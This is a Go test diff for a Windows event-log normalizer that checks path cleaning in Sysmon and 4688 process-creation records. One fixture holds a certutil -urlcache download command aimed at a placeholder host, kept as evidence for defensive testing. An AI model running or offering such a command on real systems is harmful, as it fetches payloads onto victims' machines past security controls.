@@ -47,6 +47,53 @@ func TestValues(t *testing.T) {
 	}
 }
 
+func TestCleanPath(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{`C:\Windows\\system32\\certutil.exe`, `C:\Windows\system32\certutil.exe`},
+		{`C:\\Windows\\System32\\cmd.exe`, `C:\Windows\System32\cmd.exe`},
+		{`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\cmd.exe`},
+		{`C:\Windows\\\\system32\cmd.exe`, `C:\Windows\system32\cmd.exe`},
+		{`\\server\share\\tools\x.exe`, `\\server\share\tools\x.exe`},
+		{`\\\\server\\share\\x.exe`, `\\server\share\x.exe`},
+		{`\\?\C:\\Windows\\x.exe`, `\\?\C:\Windows\x.exe`},
+		{`\\?\C:\Windows\x.exe`, `\\?\C:\Windows\x.exe`},
+		{`\??\C:\Windows\\system32\\conhost.exe`, `\??\C:\Windows\system32\conhost.exe`},
+		{`\\.\pipe\\x`, `\\.\pipe\x`},
+		{`\Device\HarddiskVolume2\\Windows\x.exe`, `\Device\HarddiskVolume2\Windows\x.exe`},
+		{`C:\dir\\`, `C:\dir\`},
+		{`/usr/bin//bash`, `/usr/bin//bash`},
+		{``, ``},
+		{`\`, `\`},
+		{`\\`, `\\`},
+		{`\\\`, `\\`},
+	}
+	for _, tt := range tests {
+		if got := CleanPath(tt.in); got != tt.want {
+			t.Errorf("CleanPath(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestProcessPathsCleaned(t *testing.T) {
+	ev := Normalize(rec("Microsoft-Windows-Sysmon", "", 1, map[string]string{
+		"Image": `C:\Windows\\system32\\certutil.exe`, "ParentImage": `C:\Windows\\explorer.exe`,
+		"CurrentDirectory": `C:\\Users\\bob\\`, "CommandLine": `certutil -urlcache -f http://x/a C:\\a`,
+	}), false)
+	p := ev.ProcessCreation
+	if p.Image != `C:\Windows\system32\certutil.exe` || p.ParentImage != `C:\Windows\explorer.exe` || p.CurrentDirectory != `C:\Users\bob\` {
+		t.Errorf("sysmon paths: %q %q %q", p.Image, p.ParentImage, p.CurrentDirectory)
+	}
+	if p.Cmdline != `certutil -urlcache -f http://x/a C:\\a` {
+		t.Errorf("the command line is evidence and must stay as written: %q", p.Cmdline)
+	}
+	ev = Normalize(rec("Microsoft-Windows-Security-Auditing", "Security", 4688, map[string]string{
+		"NewProcessName": `C:\Windows\\System32\\cmd.exe`, "ParentProcessName": `C:\\Windows\\explorer.exe`,
+	}), false)
+	if ev.Image != `C:\Windows\System32\cmd.exe` || ev.ParentImage != `C:\Windows\explorer.exe` {
+		t.Errorf("4688 paths: %q %q", ev.Image, ev.ParentImage)
+	}
+}
+
 func TestClassify(t *testing.T) {
 	tests := []struct {
 		provider, channel string
